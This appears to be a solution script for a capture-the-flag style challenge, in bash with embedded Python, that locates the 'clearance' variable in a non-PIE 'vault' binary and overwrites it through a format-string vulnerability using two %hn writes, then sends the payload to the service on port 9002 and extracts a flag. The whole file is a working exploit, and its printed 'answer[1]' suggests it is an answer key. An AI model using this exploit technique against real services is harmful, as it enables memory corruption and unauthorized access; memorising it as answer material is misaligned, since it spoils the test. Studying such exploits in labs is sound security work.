#!/bin/bash
# Format string write: rebuild the identical no-PIE binary, find `clearance`,
# and write 0x5ec0de42 with two %hn writes through printf(line + 5).
set -e
cd "$HOME"
sh build.sh
python3 - <<'PY'
import re, socket, struct, subprocess
nm = subprocess.run(["nm", "vault"], capture_output=True, text=True).stdout
addr = int(re.search(r"^([0-9a-f]+) [DdBb] clearance$", nm, re.M).group(1), 16)
print("answer[1]: 0x%x" % addr)
# line[] starts at %6$ (rsp at -O0); the echoed text starts at line+5, so
# three pad bytes align the next word to %7$.
hi, lo = 0x5ec0, 0xde42
fmt = b""
for L in (32, 40, 48):
    i1, i2 = 7 + L // 8, 8 + L // 8
    fmt = b"%%%dc%%%d$hn%%%dc%%%d$hn" % (hi - 3, i2, lo - hi, i1)  # "XXX" already printed
    if len(fmt) <= L:
        break
fmt = fmt.ljust(L, b"Z")
line = b"echo XXX" + fmt + struct.pack("<QQ", addr, addr + 2) + b"\n"
s = socket.create_connection(("vault", 9002), timeout=10)
s.sendall(line + b"vault\nquit\n")
out = b""
while True:
    d = s.recv(65536)
    if not d:
        break
    out += d
print(re.search(rb"flag\{[0-9a-f]+\}", out).group(0).decode())
PY
